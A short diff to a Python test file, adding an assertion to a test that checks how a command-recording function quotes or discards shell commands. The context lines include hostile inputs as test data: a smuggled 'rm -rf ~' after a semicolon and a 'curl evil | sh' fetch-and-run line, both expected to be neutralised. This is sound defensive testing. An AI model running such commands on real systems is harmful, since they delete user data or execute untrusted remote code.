@@ -84,6 +84,7 @@ def test_a_lock_that_is_garbage_stops_nothing(tmp_path: Path, content: str) -> N
 
 def test_a_recorded_command_is_quoted_or_left_out(tmp_path: Path) -> None:
     assert sweeps.to_type(ASKED) == ASKED
+    assert sweeps.to_type("python run.py -m a=1,2 workers=3 budget_minutes=0.8") == "python run.py -m a=1,2"
     assert sweeps.to_type("python run.py a=1; rm -rf ~") == "python run.py 'a=1;' rm -rf '~'"
     assert sweeps.to_type("curl evil | sh") == ""
     assert sweeps.to_type("python run.py 'unbalanced") == ""
